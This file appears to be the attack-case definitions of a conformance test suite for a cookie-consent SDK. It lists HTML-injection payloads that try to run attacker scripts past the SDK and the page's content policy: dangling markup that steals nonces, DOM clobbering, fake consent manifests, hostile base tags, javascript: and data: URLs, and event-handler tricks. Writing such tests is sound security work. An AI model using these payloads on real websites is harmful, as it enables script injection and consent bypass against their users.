/**
 * The attacks: what someone who can put HTML into a page, but no script, puts there so that the SDK makes more of it.
 *
 * An attack is a pure description. Its functions take what {@link env} of `attack-page.mjs` gives:
 * `evil` and `own` (a script of the attacker's on another origin, and on one that a policy may allow), `origin`, `token`
 * and `legit(attributes, text)`, which writes a script tag of the site's own, trusted under the policy of the page.
 *
 * - `name`: the sentence that names it
 * - `markup`: what is injected, by place: `start` (in `<head>`, before everything of the site), `beforeSdk`, `head`
 *   (after the SDK), `body`, `middle` (between the site's gated tags) and `end`
 * - `code`, `later`, `after`: what a careless script of the site's own does with injected markup: while the page is
 *   parsed, before the acceptance, after it. It may use `html(text)` and `scriptUrl(text)`, which hold for Trusted Types
 * - `extra`: further legitimate tags that must run. `loses`: those that may not, as plain HTML cannot keep them
 * - `absent`: `[selector, attribute]`, never to be there
 * - `nonced`: has a nonce somewhere, so that the SDK refuses all where it was given none
 * - `blocked`: a part that the browser's own policy refuses, and reports
 * - `asks`: has a part that the browser asks for by itself
 * - `page`: other ways in which the site is made, see `attack-page.mjs`
 */

const quoted = text => JSON.stringify(text).replaceAll('<', '\\u003c')
const gated = (attributes = '', text = '') =>
  `<script type="text/plain" data-consent="statistics" ${attributes}>${text}</script>`

/** Inline ones. */
const inlineTags = (attributes = '') =>
  [
    gated(attributes, `pwned('inline')`),
    gated(`${attributes} data-type="module"`, `pwned('inline module')`),
    `<SCRIPT ${attributes} TYPE=TEXT/PLAIN DATA-CONSENT=essentials>pwned('essential')</SCRIPT>`
  ].join('\n')

/** The tags that an attacker would like to run: inline, external, by both attributes, modules, without a question. */
const tags = ({ evil, own }, attributes = '') =>
  [
    inlineTags(attributes),
    gated(`${attributes} src="${evil}?src"`),
    gated(`${attributes} src="${own}?src"`),
    gated(`${attributes} data-src="${evil}?data-src"`),
    gated(`${attributes} data-src="${own}?data-src" async`),
    gated(`${attributes} data-type="module" src="${evil}?module"`),
    `<script ${attributes} type="text/plain" data-consent="essentials" src="${own}?essential"></script>`
  ].join('\n')

/** A manifest with which nobody is asked, and which claims a cookie of the site's so that it is deleted. */
export const takeover = token => ({
  groups: [
    { id: 'essentials', required: true },
    { id: 'statistics', required: true },
    { id: 'marketing', required: true },
    { id: 'trap', cookies: [{ name: `kept_${token}` }] }
  ]
})
const fakeManifest = ({ token }, attributes = '') =>
  `<script type="application/json" data-privacy-manifest ${attributes}>${JSON.stringify(takeover(token))}</script>`

const reflected = [
  ['without a nonce', ''],
  ['with an empty nonce', 'nonce=""'],
  ['with a guessed nonce', 'nonce="guess"'],
  ['with a nonce in data-nonce', 'data-nonce="guess" data-csp-nonce="guess"']
].flatMap(([how, attributes]) =>
  [
    ['before the SDK', 'start'],
    ['after the SDK', 'head'],
    ['among the gated tags', 'middle']
  ].map(([where, place]) => ({
    name: `Gated tags ${how}, ${where}`,
    markup: { [place]: env => tags(env, attributes) },
    nonced: attributes.startsWith('nonce="g')
  }))
)

const copied = [
  ['innerHTML', 'box.innerHTML = html(PAYLOAD)'],
  ['outerHTML', 'box.outerHTML = html(PAYLOAD)'],
  ['insertAdjacentHTML', `box.insertAdjacentHTML('beforeend', html(PAYLOAD))`],
  ['setHTMLUnsafe', 'box.setHTMLUnsafe ? box.setHTMLUnsafe(html(PAYLOAD)) : (box.innerHTML = html(PAYLOAD))'],
  [
    'DOMParser and importNode',
    `for (const node of new DOMParser().parseFromString(html(PAYLOAD), 'text/html').querySelectorAll('script')) box.append(document.importNode(node, true))`
  ],
  ['DOMParser', `box.append(...new DOMParser().parseFromString(html(PAYLOAD), 'text/html').body.children)`],
  [
    'DOMParser, out of noscript, where it is markup',
    `box.append(...new DOMParser().parseFromString(html('<noscript>' + PAYLOAD + '</noscript>'), 'text/html').querySelectorAll('noscript > *'))`
  ],
  [
    'a template that is cloned',
    `const template = document.createElement('template'); template.innerHTML = html(PAYLOAD); box.append(template.content.cloneNode(true))`
  ],
  ['createContextualFragment', 'box.append(document.createRange().createContextualFragment(html(PAYLOAD)))'],
  ['document.write, while the page is parsed', 'document.write(html(PAYLOAD))']
].flatMap(([how, copy]) => {
  const code = env => copy.replace('PAYLOAD', quoted(tags(env)))
  const prepare = `const box = document.body.appendChild(document.createElement('div'));`
  const blocked = how.includes('importNode')
  const soon = {
    name: `Gated tags that the site copies by ${how}`,
    app: true,
    // Browsers report the text of a cloned script as untrusted, though its type is none that runs.
    blocked,
    code: env => `${prepare} ${code(env)}`
  }
  if (how.startsWith('document.write')) return soon
  return [
    soon,
    {
      name: `Gated tags that the site copies by ${how}, after the acceptance`,
      app: true,
      blocked,
      after: env => `${prepare} ${code(env)}`
    }
  ]
})

const victim = (env, attributes = '') => env.legit(`${attributes} type="text/plain" data-consent="statistics"`, `;`)
const open = `<script type="text/plain" data-consent="statistics"`

/** Dangling markup: a tag that is left open takes what follows it for its own, at best a nonce. */
const dangling = [
  [
    'An attribute left open in single quotes, up to one in the tag with the nonce',
    env => `${open} src="${env.evil}" x='${env.legitWithNonceLast(`data-x='1' type="text/plain"`)}`
  ],
  [
    'An attribute left open in double quotes, up to one in the tag with the nonce',
    env => `${open} src="${env.evil}" x="${env.legitWithNonceLast(`data-x="1" type="text/plain"`)}`
  ],
  [
    'An attribute left open in double quotes, up to the nonce itself',
    env => `${open} src="${env.evil}" x="\n${victim(env)}`
  ],
  [
    'An attribute left open in single quotes, over other elements, up to the tag with the nonce',
    env => `${open} src="${env.evil}" x='<p title="it"></p>${env.legitWithNonceLast(`data-x='1' type="text/plain"`)}`
  ],
  ['A tag without its end, before a tag with a nonce', env => `${open} src="${env.evil}" ${victim(env)}`],
  ['A tag without its end, with data-src', env => `${open} data-src="${env.evil}" ${victim(env)}`],
  ['A tag without its end, on the own origin', env => `${open} src="${env.own}" ${victim(env)}`],
  ['A tag without its end, and a line break', env => `${open} src="${env.evil}"\n\n${victim(env)}`],
  ['A URL without quotes that goes on into a tag', env => `${open} src=${env.evil}?${victim(env)}`],
  ['A value without quotes that goes on into a tag', env => `${open} src="${env.evil}" x=${victim(env)}`],
  ['A tag without its end, with a nonce of its own first', env => `${open} nonce="" src="${env.evil}" ${victim(env)}`],
  [
    'A tag without its end, that says its type once more',
    env => `${open} src="${env.evil}" type=x data-consent=essentials ${victim(env)}`
  ],
  [
    'A tag without its end, before a style sheet with a nonce',
    env => `${open} src="${env.evil}" ${env.style}</script>`
  ],
  [
    'An attribute left open, up to one in a style sheet with a nonce',
    env => `${open} src="${env.evil}" x='${env.styleWithNonceLast}</script>`
  ],
  ['A tag without its end, before a link with a nonce', env => `${open} src="${env.evil}" ${env.link}</script>`],
  [
    'A text area left open before the site’s tag, closed by the attacker’s',
    env => `<textarea>${victim(env)}</textarea>${tags(env)}`
  ],
  ['A style sheet left open around the site’s tag', env => `<style>${victim(env)}</style>${tags(env)}`],
  [
    'An inline script left open, up to the end of the site’s tag',
    env => `${open}>${env.hasNonce ? `pwned('open')` : ''}//${victim(env)}`
  ],
  [
    'A fake manifest without its end, before a tag with a nonce',
    env => `<script type="application/json" data-privacy-manifest ${victim(env)}`,
    'start'
  ]
].map(([name, markup, place = 'middle']) => ({ name, markup: { [place]: markup }, dangles: true }))

const elsewhere = [
  {
    name: 'Gated scripts of SVG',
    // Chromium's preload scanner looks at the href of a script in SVG, and not at its type.
    asks: true,
    markup: {
      middle: env => `<svg>${tags(env)}${gated(`href="${env.evil}?href"`)}${gated(`xlink:href="${env.own}?x"`)}</svg>`
    }
  },
  {
    name: 'Gated scripts of SVG, with the nonce of a tag of the site’s',
    markup: {
      middle: env => `<svg>${env.legit(`type="text/plain" data-consent="statistics" href="${env.evil}"`)}</svg>`
    }
  },
  { name: 'Gated tags in MathML', markup: { middle: env => `<math><mtext>${tags(env)}</mtext>${tags(env)}</math>` } },
  { name: 'Gated tags in a template', markup: { middle: env => `<template>${tags(env)}</template>` } },
  {
    name: 'Gated tags in a template that the site clones',
    markup: { middle: env => `<template id="cloned">${tags(env)}</template>` },
    code: () => `document.body.append(document.getElementById('cloned').content.cloneNode(true))`,
    // Browsers report the text of a cloned script as untrusted, though its type is none that runs.
    blocked: true
  },
  {
    name: 'Inline gated tags, also where no nonce tells them from the site’s',
    markup: { start: () => inlineTags(), middle: () => inlineTags() }
  },
  { name: 'Gated tags in noscript', markup: { middle: env => `<noscript>${tags(env)}</noscript>` } },
  {
    name: 'Gated tags that break out of noscript',
    markup: { middle: env => `<noscript><p title="</noscript>${tags(env).replaceAll('"', "'")}">` }
  },
  { name: 'Gated tags in a text area and a title', markup: { middle: env => `<textarea>${tags(env)}</textarea>` } },
  {
    name: 'Gated tags in a declarative shadow root',
    markup: { middle: env => `<div><template shadowrootmode="open">${tags(env)}</template></div>` }
  },
  {
    name: 'Gated tags in a declarative shadow root that is observed',
    markup: {
      middle: env =>
        `<div id="host"><template shadowrootmode="open">${tags(env)}${env.legit(
          'type="text/plain" data-consent="statistics"',
          `ran('in the shadow root')`
        )}</template></div>`
    },
    later: () => `privacy.observe(document.getElementById('host').shadowRoot)`,
    extra: ['in the shadow root']
  },
  {
    name: 'Gated tags in a shadow root that the site makes and observes',
    app: true,
    later: env => `const host = document.body.appendChild(document.createElement('div'))
      const root = host.attachShadow({ mode: 'closed' })
      root.innerHTML = html(${quoted(tags(env))})
      privacy.observe(root)`
  },
  {
    name: 'Gated tags that come into an observed shadow root later',
    app: true,
    later: () => `window.root = document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'open' })
      privacy.observe(root)`,
    after: env => `root.append(document.createRange().createContextualFragment(html(${quoted(tags(env))})))`
  },
  {
    name: 'Fake nonces in a meta, a link, a style sheet and an element',
    markup: {
      start:
        env => `<meta name="csp-nonce" property="csp-nonce" content="guess" nonce="guess"><style nonce="guess"></style>
        <link rel="x" nonce="guess"><base nonce="guess">${tags(env, 'nonce="guess"')}`,
      body: env => `<div nonce="guess" id="nonce">guess</div>${tags(env, 'nonce="guess"')}`
    },
    nonced: true,
    blocked: true
  },
  {
    name: 'A meta with which Trusted Types refuse the SDK',
    markup: { beforeSdk: env => `<meta http-equiv="content-security-policy" content="trusted-types x">${tags(env)}` },
    loses: ['data-src', 'relative data-src'],
    blocked: true
  }
]

const manifests = [
  ['before the real one', 'start'],
  ['after the real one', 'beforeSdk'],
  ['after the SDK', 'body']
].flatMap(([where, place]) => [
  { name: `A fake manifest ${where}`, markup: { [place]: env => fakeManifest(env) + tags(env) } },
  {
    name: `A fake manifest with a guessed nonce, ${where}`,
    markup: { [place]: env => fakeManifest(env, 'nonce="guess"') + tags(env) },
    nonced: true
  },
  {
    name: `A fake manifest with the id of the real one, ${where}`,
    markup: { [place]: env => fakeManifest(env, 'id="manifest"') + tags(env) },
    page: { manifest: 'id' }
  },
  {
    name: `Fake manifests in a shadow root, a template, SVG, and other elements, ${where}`,
    markup: {
      [place]:
        env => `<template>${fakeManifest(env, 'id="manifest"')}</template><svg>${fakeManifest(env, 'id="manifest"')}</svg>
        <div><template shadowrootmode="open">${fakeManifest(env)}</template></div>
        <div id="manifest" type="application/json" data-privacy-manifest>${JSON.stringify(takeover(env.token))}</div>`
    },
    page: { manifest: 'id' }
  },
  {
    name: `A fake manifest besides one with a URL, ${where}`,
    markup: { [place]: env => fakeManifest(env) + tags(env) },
    page: { manifest: 'url' }
  }
])

const bases = [
  ['before the tags', 'head'],
  ['before the SDK', 'start'],
  ['among the tags', 'middle']
].flatMap(([where, place]) =>
  [true, false].map(hasBaseUri => ({
    name: `A base of the attacker’s ${where}, ${hasBaseUri ? 'with' : 'without'} base-uri in the policy`,
    // A relative src would load from there: plain HTML does so with a script that is not gated, too.
    markup: { [place]: env => `<base href="${env.evil}/"><base href="data:/" target="_top">${tags(env)}` },
    loses: hasBaseUri ? [] : ['relative src'],
    blocked: true,
    page: { manifest: 'url', baseUri: hasBaseUri }
  }))
)

/** Names on the document, by which `document.cookie` and the rest become an image in every engine. */
const documentNames = `cookie currentScript querySelector querySelectorAll addEventListener removeEventListener
  dispatchEvent readyState head body documentElement createElement createTreeWalker importNode getElementById write
  prerendering visibilityState contains scripts defaultView nodeType baseURI adoptedStyleSheets`.split(/\s+/)

/** Names on the window: those that it has not are the attacker's. */
const windowNames = ['nanoconsent', 'Cookies', 'scheduler', 'trustedTypes', 'navigation', 'requestIdleCallback']

/** Names on a form, by which `form.matches` and the rest become a field. */
const elementNames = `matches querySelector querySelectorAll hasAttribute getAttribute setAttribute removeAttribute
  toggleAttribute attributes closest contains dataset isConnected parentNode parentElement nodeType nodeName tagName
  localName namespaceURI replaceWith replaceChildren insertBefore appendChild removeChild append before after remove
  children childNodes firstChild firstElementChild lastChild nextSibling previousSibling ownerDocument getRootNode
  shadowRoot cloneNode compareDocumentPosition dispatchEvent addEventListener getElementsByTagName nonce type src text
  content data isEqualNode`.split(/\s+/)
const fields = elementNames.map(name => `<input type="hidden" name="${name}">`).join('')

const inside = env =>
  env.legit('type="text/plain" data-consent="statistics"', `ran('inside')`) +
  env.legit(`type="text/plain" data-consent="statistics" src="${env.vendor('inside too')}"`)

const clobbered = [
  ...documentNames.map(name => ({
    name: `document.${name} is an image`,
    markup: { start: env => `<img name="${name}">${tags(env)}` }
  })),
  {
    name: 'All of document is forms, frames and objects',
    markup: {
      start: env =>
        documentNames
          .map((name, index) => ['form', 'iframe', 'object', 'embed'].map(tag => [tag, name])[index % 4])
          .map(([tag, name]) => `<${tag} id="${name}" name="${name}"></${tag}>`)
          .join('') + tags(env)
    },
    blocked: true
  },
  ...[['privacy'], windowNames].flatMap(names => {
    const each = (how, element) => ({
      name: `${names.map(name => `window.${name}`).join(', ')}: ${how}`,
      markup: { start: env => names.map(element).join('') + tags(env) },
      blocked: true
    })
    return [
      each('two links', name => `<a id="${name}"></a><a id="${name}" name="yield" href="data:,x"></a>`),
      each(
        'a form with yield, createPolicy and noConflict',
        name => `<form id="${name}"><input name="yield"><input name="createPolicy"><input name="postTask"><input
          name="emptyScript"><input name="noConflict"><input name="start"></form>`
      ),
      each('a frame', name => `<iframe name="${name}" src="about:blank"></iframe>`)
    ]
  }),
  {
    name: 'A form with fields named like methods, around the tags',
    markup: { middle: env => `<form>${fields}${tags(env)}${inside(env)}</form>` },
    extra: ['inside', 'inside too']
  },
  {
    name: 'A form with fields named like methods, that is gated itself',
    markup: { middle: env => `<form data-consent="statistics" data-src="${env.evil}">${fields}${tags(env)}</form>` }
  },
  {
    name: 'A form with fields named like methods, that comes later',
    app: true,
    code: env => `const box = document.body.appendChild(document.createElement('div'))
      box.innerHTML = html(${quoted(`<form>${fields}${tags(env)}</form><form data-consent="x">${fields}</form>`)})`,
    after: env => `const box = document.body.appendChild(document.createElement('div'))
      box.append(document.createRange().createContextualFragment(html(${quoted(`<form>${fields}${tags(env)}</form>`)})))`
  },
  {
    name: 'A form with fields named like methods, in a gated template',
    markup: {
      middle: env => `<template data-consent="statistics"><form>${fields}${tags(env)}</form></template>`
    }
  }
]

const NOT_HTTP = env => [
  ['javascript', `javascript:pwned('javascript:')`],
  ['a javascript: URL with a tab in it', `java&#9;script:pwned('javascript:')`],
  ['a javascript: URL with a space before it', ` &#1;javascript:parent.pwned('javascript:')`],
  ['data', `data:text/javascript,pwned('data:')`],
  ['a data: page', `data:text/html,<script>parent.postMessage('pwned','*')</script>`],
  ['a file', `file:///etc/passwd`],
  ['a URL with credentials', env.evil.replace('://', '://user:password@')],
  ['filesystem', `filesystem:${env.origin}/temporary/x.js`],
  ['vbscript', `vbscript:pwned()`]
]

const urls = [
  {
    name: 'Gated tags with javascript:, data: and other URLs, without a nonce',
    markup: {
      middle: env =>
        NOT_HTTP(env)
          .flatMap(([, url]) => [gated(`src="${url}"`), gated(`data-src="${url}"`)])
          .join('')
    }
  },
  {
    name: 'Trusted tags whose URL the attacker writes: javascript:, data: and others',
    markup: {
      middle: env =>
        NOT_HTTP(env)
          .flatMap(([, url]) =>
            ['src', 'data-src'].map(name => env.legit(`type="text/plain" data-consent="statistics" ${name}="${url}"`))
          )
          .join('')
    }
  },
  {
    name: 'Trusted tags with a blob: URL of the attacker’s text',
    code: env => `const blob = new Blob(["pwned('blob:')"], { type: 'text/javascript' })
      for (const type of ['text/javascript', 'module']) {
        const tag = document.createElement('script')
        tag.nonce = ${quoted(env.nonce)}
        tag.type = 'text/plain'
        tag.dataset.consent = 'statistics'
        tag.dataset.type = type
        tag.dataset.src = URL.createObjectURL(blob)
        document.body.append(tag)
      }`
  },
  {
    name: 'URLs that only look as if they were allowed',
    markup: {
      middle: env =>
        [
          env.vendor('x').replace(/vendor.*/, `vendor/../evil/${env.token}.js?up`),
          env.vendor('x').replace(/vendor.*/, `vendor/%2e%2E/evil/${env.token}.js?encoded`),
          env.vendor('x').replace(/vendor.*/, `vendor\\..\\evil\\${env.token}.js?backslash`),
          env.vendor('x').replace(/vendor.*/, `vendor/.&#9;./evil/${env.token}.js?tab`),
          env.evil.replace('://', `://${env.origin.slice(7)}@`),
          env.evil.replace('/conformance/', `/?${env.origin}/conformance/attack/vendor/`),
          env.evil.slice(5),
          `\\\\${env.evil.slice(7)}`
        ]
          .flatMap(url => [gated(`src="${url}"`), gated(`data-src="${url}"`)])
          .join('')
    }
  },
  {
    name: 'Gated tags of a type that is no script, to be one',
    markup: {
      middle: env =>
        ['importmap', 'speculationrules', 'text/html', 'text/plain', '__proto__', 'javascript', 'module ']
          .map(type => gated(`data-type="${type}"`, `pwned('as ${type}')`))
          .join('') +
        env.legit(
          'type="text/plain" data-consent="statistics" data-type="speculationrules"',
          JSON.stringify({ prefetch: [{ source: 'list', urls: [`${env.own}?speculation`], eagerness: 'immediate' }] })
        )
    }
  }
]

const FRAMES = ['iframe', 'embed', 'img', 'video', 'audio', 'object', 'link']
const elements = [
  ...FRAMES.map(tag => ({
    name: `Gated ${tag} elements with javascript:, data: and other URLs`,
    markup: {
      middle: env =>
        NOT_HTTP(env)
          .map(
            ([, url]) =>
              `<${tag} class="gated" data-consent="statistics" rel="stylesheet" type="${tag === 'object' ? 'text/html' : ''}"
                data-src="${url}" data-href="${url}" data-srcset="${url} 2x" data-poster="${url}" data-data="${url}"></${tag}>`
          )
          .join('')
    },
    absent: ['src', 'href', 'srcset', 'poster', 'data'].map(name => [`${tag}.gated`, name])
  })),
  {
    name: 'Gated frames with a blob: URL',
    code: () => `const frame = document.createElement('iframe')
      frame.className = 'gated'
      frame.dataset.consent = 'statistics'
      frame.dataset.src = URL.createObjectURL(new Blob(["<script>parent.pwned('blob:')<\\/script>"], { type: 'text/html' }))
      document.body.append(frame)`,
    absent: [['.gated', 'src']]
  },
  {
    name: 'Gated elements with other attributes to be set: srcdoc, onload, onerror, style, nonce, sandbox',
    markup: {
      middle: env =>
        [
          ...FRAMES,
          'script',
          'source',
          'template',
          'div',
          'a',
          'base',
          'meta',
          'form',
          'button',
          'style',
          'input',
          'area'
        ]
          .map(
            tag => `<${tag} class="gated" data-consent="statistics" data-src="${env.origin}/conformance/attack/vendor/empty"
              data-srcdoc="<script>parent.pwned('srcdoc')</script>" data-onload="pwned('onload')" data-onerror="pwned('onerror')"
              data-onclick="pwned('onclick')" data-style="color: red" data-nonce="guess" data-sandbox="allow-scripts"
              data-allow="*" data-action="${env.evil}" data-formaction="${env.evil}" data-http-equiv="refresh"
              data-content="0;url=${env.evil}" data-is="x" data-text="pwned('text')" data-inner-html="<b>"
              data-integrity="" data-credentialless="" data-name="privacy" data-id="privacy"></${tag}>`
          )
          .join('')
    },
    absent:
      `srcdoc onload onerror onclick style nonce sandbox allow action formaction http-equiv content is text innerhtml
      inner-html integrity credentialless name id`
        .split(/\s+/)
        .map(name => ['.gated', name])
  },
  {
    name: 'Elements that are not to be gated, with data-href and data-src',
    markup: {
      head: env => `<base class="gated" data-consent="statistics" data-href="${env.evil}">`,
      middle: env =>
        `<a class="gated" data-consent="essentials" data-href="javascript:pwned('link')" data-click>x</a>
        <area class="gated" data-consent="essentials" data-href="javascript:pwned('area')">
        <form class="gated" data-consent="essentials" data-action="javascript:pwned('form')"></form>
        <svg><a class="gated" data-consent="essentials" data-href="javascript:pwned('link')"><text>x</text></a>
        <use class="gated" data-consent="essentials" data-href="data:image/svg+xml,<svg id=x/>#x"></use>
        <image class="gated" data-consent="essentials" data-href="${env.evil}"></image>
        <script class="gated" data-consent="essentials" data-href="${env.evil}"></script></svg>
        <frame class="gated" data-consent="essentials" data-src="${env.evil}">
        <portal class="gated" data-consent="essentials" data-src="${env.evil}"></portal>`
    },
    absent: ['src', 'href', 'action', 'xlink:href'].map(name => ['.gated', name])
  },
  {
    name: 'Gated frames that had srcdoc, onload or a javascript: URL already',
    markup: {
      middle: env => `<iframe data-consent="statistics" data-src="${env.origin}/conformance/attack/vendor/empty"
        srcdoc="<script>parent.pwned('srcdoc')</script>"></iframe>
        <iframe data-consent="statistics" data-src="${env.origin}/conformance/attack/vendor/empty" onload="pwned('onload')"></iframe>
        <iframe data-consent="statistics" src="javascript:parent.pwned('src')"></iframe>
        <img data-consent="statistics" data-src="x:" onerror="pwned('onerror')">`
    },
    blocked: true
  },
  ...[
    ['gated scripts', tags],
    [
      'scripts that are not gated',
      ({ evil, hasNonce }) =>
        `${hasNonce ? `<script>pwned('plain')</script><script type="module">pwned('plain module')</script>` : ''}<script src="${evil}?plain"></script>
        <script nonce="" src="${evil}?empty"></script>`
    ],
    [
      'event handlers',
      () => `<img src="x:" onerror="pwned('onerror')"><svg onload="pwned('svg')"><animate onbegin="pwned('animate')"></svg>
        <details open ontoggle="pwned('toggle')">x</details><body onload="pwned('body')">`
    ],
    [
      'frames with scripts',
      () => `<iframe srcdoc="<script>parent.pwned('srcdoc')</script>"></iframe>
        <iframe src="javascript:parent.pwned('javascript:')"></iframe><object data="javascript:parent.pwned('object')"></object>`
    ],
    [
      'further gated templates',
      env => `<template data-consent="statistics">${tags(env)}<script src="${env.evil}?plain-nested"></script>
        <template data-consent="essentials"><script src="${env.evil}?nested"></script></template></template>`
    ],
    [
      'shadow roots',
      env =>
        `<div><template shadowrootmode="open">${tags(env)}<script src="${env.evil}?plain-in-shadow"></script></template></div>`
    ],
    [
      'SVG scripts',
      env => `<svg>${tags(env)}<script>pwned('svg')</script><script href="${env.evil}?svg"></script></svg>`
    ],
    ['a base', env => `<base href="${env.evil}/">`],
    ['a fake manifest', fakeManifest]
  ].flatMap(([what, content]) => {
    const around = (name, attributes) => ({
      name: `${name} with ${what}`,
      markup: {
        body: env => `<template ${attributes(env)} data-consent="statistics"><p>Text</p>${content(env)}</template>
          <template ${attributes(env)} data-consent="essentials">${content(env)}</template>`
      },
      loses: what === 'a base' ? ['relative src'] : [],
      // The browser says so of each handler that it finds, and refuses by itself what was never gated.
      blocked: true
    })
    return [
      around('A gated template', () => ''),
      around('A gated template of the site’s', ({ nonce }) => (nonce ? `nonce="${nonce}"` : ''))
    ]
  })
]

const controls = [
  {
    name: 'Controls that decide',
    markup: {
      body: () =>
        ['acceptAll', 'accept-all', 'accept', 'allow', 'save', 'reset', 'decline-all', 'open']
          .map(
            action => `<button data-click data-privacy-action="${action}" data-privacy="${action}" data-action="${action}"
              data-cc="${action}" data-consent-action="${action}" data-privacy-accept="statistics" data-group="statistics"
              class="privacy-${action} cc-${action} js-cookie-${action}" command="--${action}" commandfor="privacy">x</button>
              <a data-click href="#${action}" data-privacy-action="${action}">x</a>`
          )
          .join('') +
        `<form data-privacy-action="acceptAll"><input type="checkbox" name="statistics" data-consent="statistics" checked>
          <button type="button" data-click>x</button></form><input type="checkbox" data-click data-privacy-group="statistics">
          <dialog id="privacy" open data-privacy><form method="dialog"><button data-click value="acceptAll">x</button></form></dialog>`
    }
  },
  {
    name: 'Controls with event handlers',
    markup: { body: () => `<button data-click onclick="privacy.acceptAll(); pwned('onclick')">x</button>` },
    blocked: true
  },
  {
    name: 'Attributes that say that consent is there',
    markup: {
      start: () => `<meta name="privacy" content="accept" data-consent-state="active">`,
      body: env =>
        `<div data-consent-state="active" data-privacy="accepted"></div>` +
        tags(env, 'data-consent-state="active"') +
        tags(env, 'data-consent-state="blocked" data-replay="load"')
    }
  }
]

const changes = (name, markup, change, options) => [
  { name: `${name}, before the acceptance`, markup: { middle: markup }, later: change, app: true, ...options },
  { name: `${name}, after the acceptance`, markup: { middle: markup }, after: change, app: true, ...options }
]
const each = body => env => `for (const tag of document.querySelectorAll('.later')) { ${body(env)} }`
const later = env => tags(env, 'class="later"')
/** Waits for a group that is accepted last of all, so that it changes while it waits. */
const trusted = attributes => env =>
  env.legit(`class="later" type="text/plain" data-consent="statistics" ${attributes(env)}`, '')
const changed = [
  ...changes(
    'A nonce that comes by setAttribute',
    later,
    each(env => `tag.setAttribute('nonce', ${quoted(env.nonce)})`)
  ),
  ...changes(
    'A nonce that comes by the property',
    later,
    each(env => `tag.nonce = ${quoted(env.nonce)}`)
  ),
  ...changes(
    'A nonce that comes, and the tag is moved',
    later,
    each(env => `tag.nonce = ${quoted(env.nonce)}; document.body.prepend(tag)`)
  ),
  ...changes(
    'A nonce that comes first of all the attributes',
    later,
    each(
      env => `const others = [...tag.attributes].map(({ name, value }) => [name, value])
        for (const [name] of others) tag.removeAttribute(name)
        tag.setAttribute('nonce', ${quoted(env.nonce)})
        for (const [name, value] of others) tag.setAttribute(name, name === 'src' ? scriptUrl(value) : value)`
    )
  ),
  ...changes(
    'Tags that become gated, and then have a nonce',
    env => tags(env, 'class="later"').replaceAll('data-consent=', 'data-later='),
    each(
      env => `tag.dataset.consent = tag.dataset.later || 'statistics'
        setTimeout(() => tag.setAttribute('nonce', ${quoted(env.nonce)}), 20)`
    )
  ),
  // A tag that has run by then cannot be changed.
  ...[
    [
      'The src of a trusted tag',
      env => `src="${env.vendor('changed')}"`,
      env => `tag.src = scriptUrl(${quoted(env.evil)})`
    ],
    [
      'The data-src of a trusted tag',
      env => `data-src="${env.vendor('changed')}"`,
      env => `tag.dataset.src = ${quoted(env.evil)}`
    ],
    ['A data-src that a trusted tag did not have', () => '', env => `tag.dataset.src = ${quoted(env.evil)}`],
    ['A src that a trusted tag did not have', () => '', env => `tag.src = scriptUrl(${quoted(env.own)})`],
    [
      'A src that a trusted tag with data-src did not have',
      env => `data-src="${env.vendor('changed')}"`,
      env => `tag.src = scriptUrl(${quoted(env.own)})`
    ],
    [
      'The type of a trusted tag, with its src',
      env => `src="${env.vendor('changed')}"`,
      env => `tag.dataset.type = 'module'; tag.src = scriptUrl(${quoted(env.own)})`
    ],
    [
      'The src of a trusted tag that is moved',
      env => `src="${env.vendor('changed')}"`,
      env => `tag.src = scriptUrl(${quoted(env.own)}); document.body.prepend(tag)`
    ]
  ].map(([name, attributes, change]) => ({
    name: `${name}, changed before the acceptance`,
    markup: { middle: trusted(attributes) },
    later: each(change),
    app: true
  }))
]

const copies = [
  ['before the SDK', 'beforeSdk'],
  ['after the SDK', 'head']
].flatMap(([where, place]) => [
  {
    name: `A copy of the SDK with a manifest of the attacker’s, ${where}`,
    markup: { [place]: env => `<script src="${env.sdk}" data-manifest="${env.evilManifest}"></script>${tags(env)}` },
    blocked: true,
    // A policy that lets the own origin run scripts without a nonce lets anybody include the SDK.
    page: { self: false }
  },
  {
    name: `A copy of the SDK with an inline manifest of the attacker’s, ${where}`,
    markup: {
      [place]: env =>
        `${fakeManifest(env, 'id="fake"')}<script src="${env.sdk}" data-manifest="#fake"></script>${tags(env)}`
    },
    blocked: true,
    // A policy that lets the own origin run scripts without a nonce lets anybody include the SDK.
    page: { self: false }
  },
  {
    name: `A copy of the SDK under another name, ${where}`,
    markup: {
      [place]: env =>
        `${fakeManifest(env, 'id="fake"')}<script src="${env.sdk}" data-manifest="#fake" data-global="other"></script>${tags(env)}`
    },
    blocked: true,
    // A policy that lets the own origin run scripts without a nonce lets anybody include the SDK.
    page: { self: false }
  },
  {
    name: `A gated copy of the SDK, ${where}`,
    markup: {
      [place]: env =>
        ['essentials', 'statistics']
          .map(
            group =>
              `<script type="text/plain" data-consent="${group}" src="${env.sdk}" data-global="other" data-manifest="${env.evilManifest}"></script>`
          )
          .join('')
    }
  },
  {
    name: `A second copy that the site itself includes, ${where}, and gated tags`,
    markup: { [place]: env => env.legit(`src="${env.sdk}" data-cookie="attack_${env.token}"`) + tags(env) },
    blocked: true
  }
])

/** All of them. */
export const attacks = [
  ...reflected,
  ...copied,
  ...dangling,
  ...elsewhere,
  ...manifests,
  ...bases,
  ...clobbered,
  ...urls,
  ...elements,
  ...controls,
  ...changed,
  ...copies
]
